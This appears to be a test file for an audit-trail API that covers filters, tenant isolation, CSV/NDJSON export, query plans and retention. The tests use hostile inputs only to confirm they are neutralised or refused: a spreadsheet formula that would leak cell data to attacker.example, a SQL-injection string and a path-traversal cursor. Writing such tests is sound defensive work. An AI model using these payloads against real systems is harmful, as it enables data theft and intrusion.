import { request as httpRequest } from 'node:http';
import { Activity } from '../src/changes/activity.entity';
import { ChangeKind, ChangeOrigin, SubjectType } from '../src/changes/kinds';
import { DAY_MS, ManualClock } from '../src/common/clock';
import { newId } from '../src/common/ids';
import { auditTallies, rebuildTallies } from '../src/counts/tallies';
import { signDevToken } from '../src/common/auth/jwt';
import { Role } from '../src/common/auth/roles';
import { loadConfig } from '../src/common/config';
import { csvCell } from '../src/modules/activity/activity.export';
import { ActivityFilter, trailQuery } from '../src/modules/activity/activity.trail';
import { Scope } from '../src/scope/scope';
import { createCustomer, createPartner, type TestPartner } from './support/factories';
import { startTestServer, TEST_JWT_SECRET, type TestServer } from './support/test-server';

/**
 * The audit trail's read side: `activities(filter:)` (each filter alone and combined, the tenant
 * boundary through every filter, the customer admin's view), the export `GET /exports/activities`
 * (CSV and NDJSON, the same rows as the query, formula-injection-safe, bad input, a client that goes
 * away), and AUDIT_RETENTION's sweep on the test clock.
 */

interface Node {
  id: string;
  occurredAt: string;
  action: string;
  subjectType: string | null;
  subjectId: string | null;
  partnerId: string | null;
  customerId: string | null;
  actorUserId: string;
  correlationId: string | null;
  via: string;
}
const NODE = 'id occurredAt action subjectType subjectId partnerId customerId actorUserId correlationId via';

const START = new Date('2026-03-02T08:00:00.000Z');
const clock = new ManualClock(START);
let t: TestServer;
let a: TestPartner;
let b: TestPartner;
let shared: { id: string; token: string };
let own: { id: string };
let subscriptionId: string;
const REQUEST_ID = 'audit-trail-test.request_1';
/** the time of the second phase: records before it and at/after it */
let middle: Date;

type Vars = Record<string, unknown>;

async function page(token: string, vars: Vars) {
  return t.client(token).raw<{ activities: { totalCount: number; pageInfo: { hasNextPage: boolean; endCursor: string | null }; edges: { node: Node }[] } }>({
    query: `query ($first: Int, $after: String, $partnerId: ID, $filter: ActivityFilter) {
      activities(first: $first, after: $after, partnerId: $partnerId, filter: $filter) { totalCount pageInfo { hasNextPage endCursor } edges { node { ${NODE} } } }
    }`,
    variables: vars,
  });
}

/** Every record of a read, walked page by page (20 a page), with its totalCount. */
async function trail(token: string, vars: Vars = {}): Promise<{ nodes: Node[]; totalCount: number }> {
  const nodes: Node[] = [];
  let after: string | undefined;
  let totalCount = -1;
  for (;;) {
    const res = await page(token, { ...vars, first: 20, after });
    if (res.errors) throw new Error(JSON.stringify(res.errors));
    const c = res.data!.activities;
    totalCount = c.totalCount;
    nodes.push(...c.edges.map((e) => e.node));
    if (!c.pageInfo.hasNextPage) break;
    after = c.pageInfo.endCursor!;
  }
  return { nodes, totalCount };
}

function exportUrl(params: Record<string, string>): string {
  const url = new URL('/exports/activities', t.url);
  for (const [k, v] of Object.entries(params)) url.searchParams.set(k, v);
  return url.toString();
}

async function exportOf(token: string | undefined, params: Record<string, string>) {
  const res = await fetch(exportUrl(params), { headers: token ? { authorization: `Bearer ${token}` } : {} });
  return { status: res.status, headers: res.headers, body: await res.text() };
}

beforeAll(async () => {
  t = await startTestServer({}, { clock });
  a = await createPartner(t, 'DIRECT_RESELLER');
  b = await createPartner(t, 'DIRECT_RESELLER');
  // phase 1: A creates two customers (one later shared with B) and sells a subscription, with a known request id
  const s = await createCustomer(t, a.token, { companyName: 'Shared Trail Corporation' });
  shared = { id: s.id, token: await t.tokens.customer(s.id) };
  own = await createCustomer(t, a.token, { companyName: 'Own Trail Corporation' });
  const sold = await t.client(a.token).raw<{ createSubscription: { subscription: { id: string } } }>(
    {
      query: 'mutation ($input: CreateSubscriptionInput!) { createSubscription(input: $input) { subscription { id } } }',
      variables: { input: { customerId: shared.id, offerId: 'm365-e3', quantity: 5 } },
    },
    { 'x-request-id': REQUEST_ID },
  );
  if (sold.errors) throw new Error(JSON.stringify(sold.errors));
  subscriptionId = sold.data!.createSubscription.subscription.id;
  // phase 2, a day later: B becomes the shared customer's partner too; A changes the subscription as another user
  clock.advance(DAY_MS);
  middle = clock.now();
  const invited = await t.client(b.token).raw<{ createCustomerInvitation: { token: string } }>({
    query: 'mutation { createCustomerInvitation(input: { includeDelegatedAdminPrivileges: true }) { token } }',
  });
  if (invited.errors) throw new Error(JSON.stringify(invited.errors));
  const accepted = await t.client(shared.token).raw({
    query: 'mutation ($input: AcceptCustomerInvitationInput!) { acceptCustomerInvitation(input: $input) { customer { id } } }',
    variables: { input: { token: invited.data!.createCustomerInvitation.token } },
  });
  if (accepted.errors) throw new Error(JSON.stringify(accepted.errors));
  const agent = await t.tokens.partner(a.id, Role.ADMIN_AGENT, 'agent-of-a');
  const updated = await t.client(agent).raw({
    query: 'mutation ($input: UpdateSubscriptionInput!) { updateSubscription(input: $input) { subscription { id } } }',
    variables: { input: { subscriptionId, quantity: 7 } },
  });
  if (updated.errors) throw new Error(JSON.stringify(updated.errors));
  clock.advance(DAY_MS);
}, 60_000);
afterAll(async () => {
  await t?.stop();
});

describe('filters', () => {
  it('each filter alone and combined gives exactly the matching records of the caller’s trail, newest first', async () => {
    const all = (await trail(a.token)).nodes;
    expect(all.length).toBeGreaterThanOrEqual(5);
    expect(all.every((n) => n.partnerId === a.id)).toBe(true);
    const cases: [string, Vars, (n: Node) => boolean][] = [
      ['from', { from: middle.toISOString() }, (n) => n.occurredAt >= middle.toISOString()],
      ['to', { to: middle.toISOString() }, (n) => n.occurredAt < middle.toISOString()],
      [
        'from and to',
        { from: START.toISOString(), to: middle.toISOString() },
        (n) => n.occurredAt >= START.toISOString() && n.occurredAt < middle.toISOString(),
      ],
      ['customerId', { customerId: shared.id }, (n) => n.customerId === shared.id],
      ['subjectType', { subjectType: 'SUBSCRIPTION' }, (n) => n.subjectType === 'SUBSCRIPTION'],
      ['subjectId', { subjectId: subscriptionId }, (n) => n.subjectId === subscriptionId],
      ['actions', { actions: ['CUSTOMER_CREATED', 'SUBSCRIPTION_UPDATED'] }, (n) => n.action === 'CUSTOMER_CREATED' || n.action === 'SUBSCRIPTION_UPDATED'],
      ['actorUserId', { actorUserId: 'agent-of-a' }, (n) => n.actorUserId === 'agent-of-a'],
      ['correlationId', { correlationId: REQUEST_ID }, (n) => n.correlationId === REQUEST_ID],
      [
        'customerId + actions + from',
        { customerId: shared.id, actions: ['SUBSCRIPTION_CREATED', 'SUBSCRIPTION_UPDATED'], from: middle.toISOString() },
        (n) => n.customerId === shared.id && n.action === 'SUBSCRIPTION_UPDATED',
      ],
      [
        'subjectType + subjectId + to',
        { subjectType: 'SUBSCRIPTION', subjectId: subscriptionId, to: middle.toISOString() },
        (n) => n.subjectId === subscriptionId && n.action === 'SUBSCRIPTION_CREATED',
      ],
      ['actorUserId + customerId (nothing)', { actorUserId: 'agent-of-a', customerId: own.id }, () => false],
    ];
    for (const [what, filter, match] of cases) {
      const expected = all.filter(match).map((n) => n.id);
      if (!what.includes('nothing')) expect({ what, some: expected.length > 0 }).toEqual({ what, some: true });
      const got = await trail(a.token, { filter });
      expect({ what, ids: got.nodes.map((n) => n.id), totalCount: got.totalCount }).toEqual({ what, ids: expected, totalCount: expected.length });
    }
    // the request id the client sent is the records' correlation id
    expect(all.find((n) => n.action === 'SUBSCRIPTION_CREATED')).toMatchObject({ correlationId: REQUEST_ID, via: ChangeOrigin.API });
    // newest first, on the id
    expect(all.map((n) => n.id)).toEqual([...all.map((n) => n.id)].sort().reverse());
  });

  it('keeps today’s answers without a filter: the operator names the partner, or gets BAD_USER_INPUT naming partnerId', async () => {
    const operator = await t.tokens.operator();
    const none = await page(operator, { first: 5 });
    expect(none.errors?.[0].extensions?.code).toBe('BAD_USER_INPUT');
    expect(none.errors?.[0].extensions?.fields).toEqual(['partnerId']);
    const named = await trail(operator, { partnerId: a.id });
    expect(named.nodes.map((n) => n.id)).toEqual((await trail(a.token)).nodes.map((n) => n.id));
    // with a filter the operator reads across partners, or one partner's
    const across = await trail(operator, { filter: { customerId: shared.id } });
    expect(new Set(across.nodes.map((n) => n.partnerId))).toEqual(new Set([a.id, b.id]));
    const onlyB = await trail(operator, { partnerId: b.id, filter: { customerId: shared.id } });
    expect(onlyB.nodes.length).toBeGreaterThan(0);
    expect(onlyB.nodes.every((n) => n.partnerId === b.id && n.customerId === shared.id)).toBe(true);
    const everything = await page(operator, { first: 1, filter: {} });
    expect(everything.data!.activities.totalCount).toBe(await t.server.ds.manager.count(Activity));
  });

  it('never shows a partner another partner’s records, through any filter', async () => {
    const aRecords = (await trail(a.token)).nodes;
    const filters: Vars[] = [
      {},
      { customerId: shared.id },
      { customerId: own.id },
      { subjectId: subscriptionId },
      { subjectType: 'SUBSCRIPTION' },
      { actions: Object.values(ChangeKind) },
      { actorUserId: 'agent-of-a' },
      { correlationId: REQUEST_ID },
      { from: START.toISOString(), to: new Date(START.getTime() + 10 * DAY_MS).toISOString() },
    ];
    for (const filter of filters) {
      const seen = await trail(b.token, { filter });
      expect({ filter, foreign: seen.nodes.filter((n) => n.partnerId !== b.id || aRecords.some((r) => r.id === n.id)) }).toEqual({ filter, foreign: [] });
    }
    const named = await page(b.token, { partnerId: a.id, filter: { customerId: shared.id } });
    expect(named.errors?.[0].extensions?.code).toBe('NOT_FOUND');
  });

  it('shows a customer admin every record about its own customer, from both of its partners, and nothing about another customer', async () => {
    const seen = await trail(shared.token);
    expect(seen.nodes.length).toBeGreaterThan(0);
    expect(seen.totalCount).toBe(seen.nodes.length);
    expect(seen.nodes.every((n) => n.customerId === shared.id)).toBe(true);
    expect(new Set(seen.nodes.map((n) => n.partnerId))).toEqual(new Set([a.id, b.id]));
    // exactly the records about it in both partners' trails
    const expected = [...(await trail(a.token)).nodes, ...(await trail(b.token)).nodes].filter((n) => n.customerId === shared.id);
    expect(seen.nodes.map((n) => n.id).sort()).toEqual(expected.map((n) => n.id).sort());
    // its filters narrow it; another customer's id finds nothing; partnerId picks one partner's
    expect((await trail(shared.token, { filter: { customerId: own.id } })).nodes).toEqual([]);
    expect((await trail(shared.token, { filter: { actions: ['CUSTOMER_CREATED'] } })).nodes.map((n) => n.partnerId)).toEqual([a.id]);
    const fromB = await trail(shared.token, { partnerId: b.id });
    expect(fromB.nodes.length).toBeGreaterThan(0);
    expect(fromB.nodes.every((n) => n.partnerId === b.id && n.customerId === shared.id)).toBe(true);
    // another customer's admin sees none of these
    const other = await t.tokens.customer(own.id);
    const theirs = await trail(other);
    expect(theirs.nodes.every((n) => n.customerId === own.id)).toBe(true);
    expect(theirs.nodes.filter((n) => n.partnerId === b.id)).toEqual([]);
  });

  it('refuses bad input with BAD_USER_INPUT naming the argument, writing nothing', async () => {
    const before = await t.server.ds.manager.count(Activity);
    const cases: [Vars, string][] = [
      [{ filter: { from: middle.toISOString(), to: START.toISOString() } }, 'filter.to'],
      [{ filter: { from: middle.toISOString(), to: middle.toISOString() } }, 'filter.to'],
      [{ filter: { actions: Array.from({ length: 101 }, () => 'CUSTOMER_CREATED') } }, 'filter.actions'],
      [{ filter: { correlationId: 'has spaces in it' } }, 'filter.correlationId'],
      [{ after: 'not-a-cursor' }, 'after'],
      [{ after: Buffer.from('k1:../../etc', 'utf8').toString('base64url') }, 'after'],
    ];
    for (const [vars, field] of cases) {
      const res = await page(a.token, { first: 5, ...vars });
      expect({ field, code: res.errors?.[0].extensions?.code, fields: res.errors?.[0].extensions?.fields }).toEqual({
        field,
        code: 'BAD_USER_INPUT',
        fields: [field],
      });
    }
    expect(await t.server.ds.manager.count(Activity)).toBe(before);
  });
});

describe('export', () => {
  it('streams the query’s rows as CSV, RFC 4180 with one header line, and as NDJSON', async () => {
    const { nodes, totalCount } = await trail(a.token);
    const csv = await exportOf(a.token, { format: 'csv' });
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(csv.headers.get('content-disposition')).toMatch(/^attachment; filename="activities-.*\.csv"$/);
    expect(csv.headers.get('cache-control')).toBe('no-store');
    const lines = csv.body.split('\r\n');
    expect(lines[0]).toBe(
      'id,occurredAt,action,subjectType,subjectId,partnerId,customerId,actorUserId,actorRoles,actorPartnerId,actorCustomerId,via,correlationId,attestation,changes,grantedBy',
    );
    expect(lines.pop()).toBe(''); // every line ends with CRLF
    expect(lines.length - 1).toBe(totalCount);
    expect(lines.slice(1).map((l) => l.split(',')[0])).toEqual(nodes.map((n) => n.id));

    const ndjson = await exportOf(a.token, { format: 'ndjson' });
    expect(ndjson.status).toBe(200);
    expect(ndjson.headers.get('content-type')).toMatch(/^application\/x-ndjson/);
    const rows = ndjson.body
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(rows.map((r) => r.id)).toEqual(nodes.map((n) => n.id));
    const update = rows.find((r) => r.action === 'SUBSCRIPTION_UPDATED')!;
    expect(update).toMatchObject({
      subjectType: SubjectType.SUBSCRIPTION,
      subjectId: subscriptionId,
      actorUserId: 'agent-of-a',
      actorRoles: ['ADMIN_AGENT'],
      via: 'API',
      grantedBy: [],
    });
    expect(update.changes).toEqual(expect.arrayContaining([{ field: 'quantity', before: '5', after: '7' }]));
    // the CSV's changes column is the same JSON, quoted
    const csvUpdate = lines.find((l) => l.startsWith(String(update.id)))!;
    expect(csvUpdate).toContain(`"${JSON.stringify(update.changes).replace(/"/g, '""')}"`);
  });

  it('exports with the filters of the query (the same rows), and a customer admin its own records', async () => {
    const filter = { customerId: shared.id, actions: ['SUBSCRIPTION_CREATED', 'SUBSCRIPTION_UPDATED', 'CUSTOMER_CREATED'], from: START.toISOString() };
    const { nodes } = await trail(a.token, { filter });
    const res = await exportOf(a.token, { format: 'ndjson', customerId: shared.id, actions: filter.actions.join(','), from: filter.from });
    expect(
      res.body
        .trimEnd()
        .split('\n')
        .map((l) => (JSON.parse(l) as { id: string }).id),
    ).toEqual(nodes.map((n) => n.id));
    const mine = await trail(shared.token);
    const theirs = await exportOf(shared.token, { format: 'ndjson' });
    expect(
      theirs.body
        .trimEnd()
        .split('\n')
        .map((l) => (JSON.parse(l) as { id: string }).id),
    ).toEqual(mine.nodes.map((n) => n.id));
    // a partner naming another partner, or filtering on another's records, gets none of them
    expect((await exportOf(b.token, { partnerId: a.id })).status).toBe(404);
    const bRows = (await exportOf(b.token, { format: 'ndjson', subjectId: subscriptionId })).body;
    expect(bRows).toBe('');
  });

  it('quotes and prefixes a cell a spreadsheet would run as a formula', async () => {
    const evil = '=HYPERLINK("https://attacker.example/?q="&A1,"Click")';
    const token = await signDevToken(TEST_JWT_SECRET, { sub: evil, roles: [Role.GLOBAL_ADMIN], partnerId: a.id }, '1h');
    await createCustomer(t, token, { companyName: 'Formula Holder Limited' });
    const csv = await exportOf(a.token, { format: 'csv', actorUserId: evil });
    const [header, row] = csv.body.split('\r\n');
    expect(header.startsWith('id,')).toBe(true);
    expect(row).toContain(`,"'=HYPERLINK(""https://attacker.example/?q=""&A1,""Click"")",`);
    for (const cell of ['-1+1', '+SUM(A1)', '@cmd', '\tTAB', '\rCR']) expect(csvCell(cell)).toBe(`"'${cell}"`);
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a "quoted", text\r\n')).toBe('"a ""quoted"", text\r\n"');
  });

  it('refuses bad requests with a JSON error and a code, naming the parameter', async () => {
    const json = async (token: string | undefined, params: Record<string, string>, headers: Record<string, string> = {}) => {
      const res = await fetch(exportUrl(params), { headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), ...headers } });
      expect(res.headers.get('content-type')).toMatch(/^application\/json/);
      const body = (await res.json()) as { errors: { extensions: { code: string; fields?: string[] } }[] };
      return { status: res.status, code: body.errors[0].extensions.code, fields: body.errors[0].extensions.fields };
    };
    const before = await t.server.ds.manager.count(Activity);
    expect(await json(undefined, { format: 'csv' })).toMatchObject({ status: 401, code: 'UNAUTHENTICATED' });
    expect(await json('not.a.token', { format: 'csv' })).toMatchObject({ status: 401, code: 'UNAUTHENTICATED' });
    const bad: [Record<string, string>, string][] = [
      [{ from: middle.toISOString(), to: START.toISOString() }, 'to'],
      [{ format: 'xml' }, 'format'],
      [{ from: 'yesterday' }, 'from'],
      [{ to: '2026-13-45T99:00:00Z' }, 'to'],
      [{ customerId: "' OR '1'='1" }, 'customerId'],
      [{ subjectType: 'NOTHING' }, 'subjectType'],
      [{ actions: 'CUSTOMER_CREATED,NOT_AN_ACTION' }, 'actions'],
      [{ actions: Array.from({ length: 101 }, () => 'CUSTOMER_CREATED').join(',') }, 'actions'],
      [{ correlationId: 'x'.repeat(65) }, 'correlationId'],
      [{ cursor: 'abc' }, 'cursor'],
    ];
    for (const [params, field] of bad) {
      expect({ params, ...(await json(a.token, params)) }).toEqual({ params, status: 400, code: 'BAD_USER_INPUT', fields: [field] });
    }
    expect(await t.server.ds.manager.count(Activity)).toBe(before);
  });

  it('stops querying when the client goes away midway, and the server stays healthy', async () => {
    // 30,000 records of one partner, in bulk
    const bulk = await createPartner(t, 'DIRECT_RESELLER');
    await seed(t, bulk.id, 30_000, clock.now());
    const start = t.queryCount();
    const chunk = await new Promise<number>((resolve, reject) => {
      const req = httpRequest(exportUrl({ format: 'csv' }), { headers: { authorization: `Bearer ${bulk.token}` } }, (res) => {
        res.once('data', (d: Buffer) => {
          // the first chunk, then the client goes away without reading more
          req.destroy();
          resolve(d.length);
        });
      });
      req.on('error', (err) => ((err as NodeJS.ErrnoException).code === 'ECONNRESET' ? undefined : reject(err)));
      req.end();
    });
    expect(chunk).toBeGreaterThan(0);
    // the server notices the closed socket and issues no further SELECT (a short real wait: the socket's close is asynchronous)
    let settled = t.queryCount();
    for (let i = 0; i < 20; i++) {
      await new Promise((r) => setTimeout(r, 100));
      if (t.queryCount() === settled && i >= 3) break;
      settled = t.queryCount();
    }
    await new Promise((r) => setTimeout(r, 300));
    expect(t.queryCount()).toBe(settled);
    // the whole export takes 31 SELECTs (plus authentication); the aborted one stopped well before
    expect(settled - start).toBeLessThan(20);
    // healthy: it answers, and a full export of the same rows still works
    expect((await fetch(new URL('/healthz', t.url))).status).toBe(200);
    const full = await exportOf(bulk.token, { format: 'ndjson' });
    const { totalCount } = (await page(bulk.token, { first: 1 })).data!.activities;
    expect(totalCount).toBeGreaterThanOrEqual(30_000);
    expect(full.body.trimEnd().split('\n').length).toBe(totalCount);
  }, 120_000);
});

describe('indexes', () => {
  it('reads a page through an index led by the tenant column, whatever the filter (the plan of each)', async () => {
    const ds = t.server.ds;
    const mysql = ds.options.type !== 'better-sqlite3';
    const asPartner = new Scope(ds, { kind: 'partner', userId: 'plan', roles: [Role.GLOBAL_ADMIN], partnerId: a.id });
    const asCustomer = new Scope(ds, { kind: 'customer', userId: 'plan', roles: [Role.CUSTOMER_ADMIN], customerId: shared.id });
    const cases: [Scope, ActivityFilter, RegExp][] = [
      [asPartner, {}, /^IDX_activity_partner_/],
      [asPartner, { customerId: shared.id }, /^IDX_activity_partner_/],
      [asPartner, { subjectId: subscriptionId, subjectType: SubjectType.SUBSCRIPTION }, /^IDX_activity_partner_/],
      [asPartner, { actorUserId: 'agent-of-a', from: START }, /^IDX_activity_partner_/],
      [asPartner, { correlationId: REQUEST_ID }, /^IDX_activity_partner_/],
      [asCustomer, {}, /^IDX_activity_customer_/],
      [asCustomer, { actions: [ChangeKind.SUBSCRIPTION_UPDATED] }, /^IDX_activity_customer_/],
      [asCustomer, { subjectId: subscriptionId }, /^IDX_activity_customer_/],
    ];
    for (const [scope, filter, index] of cases) {
      const qb = trailQuery(scope, { filter: Object.assign(new ActivityFilter(), filter) })
        .orderBy('activity.id', 'DESC')
        .limit(21);
      const [sql, params] = qb.getQueryAndParameters();
      if (mysql) {
        const [plan] = await ds.query<{ key: string | null; type: string }[]>(`EXPLAIN ${sql}`, params);
        // one index, or an intersection of two (index_merge): each led by the tenant column
        const keys = (plan.key ?? '').split(',');
        expect({ filter, keys, type: plan.type }).toEqual({
          filter,
          keys: keys.map((): unknown => expect.stringMatching(index)),
          type: expect.stringMatching(/^(ref|range|index_merge)$/),
        });
        expect(keys[0]).toMatch(index);
      } else {
        const plan = (await ds.query<{ detail: string }[]>(`EXPLAIN QUERY PLAN ${sql}`, params)).map((r) => r.detail).join(' | ');
        expect({ filter, plan }).toEqual({
          filter,
          plan: expect.stringMatching(new RegExp(`SEARCH activity USING (COVERING )?INDEX ${index.source.slice(1)}`)),
        });
      }
    }
  });
});

/** `n` audit records of a partner, written in bulk (as the benchmark does), at `at`; the tallies rebuilt after. */
async function seed(server: TestServer, partnerId: string, n: number, at: Date): Promise<void> {
  const ds = server.server.ds;
  for (let i = 0; i < n; i += 500) {
    const rows = Array.from({ length: Math.min(500, n - i) }, (_, j) => ({
      id: newId(),
      occurredAt: at,
      action: ChangeKind.SUBSCRIPTION_UPDATED,
      actorUserId: 'bulk-seed',
      actorRoles: ['GLOBAL_ADMIN'],
      actorPartnerId: partnerId,
      actorCustomerId: null,
      partnerId,
      customerId: null,
      subjectId: null,
      subjectType: SubjectType.SUBSCRIPTION,
      attestation: null,
      details: null,
      changeSet: JSON.stringify([{ field: 'quantity', before: String(i + j), after: String(i + j + 1) }]),
      correlationId: null,
      via: ChangeOrigin.API,
    }));
    await ds.createQueryBuilder().insert().into(Activity).values(rows).execute();
  }
  await rebuildTallies(ds);
}

describe('retention', () => {
  it('deletes the records older than AUDIT_RETENTION in batches on the sweep, keeping totalCount right', async () => {
    const own = new ManualClock(new Date('2026-01-10T00:00:00.000Z'));
    const r = await startTestServer({ AUDIT_RETENTION: '400d' }, { clock: own });
    try {
      const p = await createPartner(r, 'DIRECT_RESELLER');
      await createCustomer(r, p.token);
      // 2,500 old records: three batches
      await seed(r, p.id, 2_500, own.now());
      const count = async () =>
        (await r.client(p.token).raw<{ activities: { totalCount: number } }>({ query: '{ activities(first: 1) { totalCount } }' })).data!.activities.totalCount;
      const old = await count();
      expect(old).toBeGreaterThan(2_500);
      // nothing is old enough yet
      own.advance(399 * DAY_MS);
      await createCustomer(r, p.token);
      expect(await r.server.services.activity.sweepRetention()).toBe(0);
      expect(await count()).toBeGreaterThan(old);
      // 401 days after the first ones: they go, the newer ones stay
      own.advance(2 * DAY_MS);
      const deleted = await r.server.services.activity.sweepRetention();
      expect(deleted).toBe(old);
      const left = await r.client(p.token).raw<{ activities: { totalCount: number; edges: { node: { occurredAt: string } }[] } }>({
        query: '{ activities(first: 100) { totalCount edges { node { occurredAt } } } }',
      });
      expect(left.data!.activities.totalCount).toBe(left.data!.activities.edges.length);
      expect(left.data!.activities.edges.length).toBeGreaterThan(0);
      expect(left.data!.activities.edges.every((e) => new Date(e.node.occurredAt).getTime() >= own.now().getTime() - 400 * DAY_MS)).toBe(true);
      expect(await auditTallies(r.server.ds)).toEqual([]);
    } finally {
      await r.stop();
    }
  }, 120_000);

  it('keeps every record without AUDIT_RETENTION, and refuses a retention without a unit or under an hour', async () => {
    expect(await t.server.services.activity.sweepRetention()).toBe(0);
    expect(loadConfig({ AUDIT_RETENTION: '400d' }).auditRetentionMs).toBe(400 * DAY_MS);
    expect(loadConfig({}).auditRetentionMs).toBeUndefined();
    for (const bad of ['400', '10m', 'forever', '-5d']) expect(() => loadConfig({ AUDIT_RETENTION: bad })).toThrow(/AUDIT_RETENTION/);
  });
});
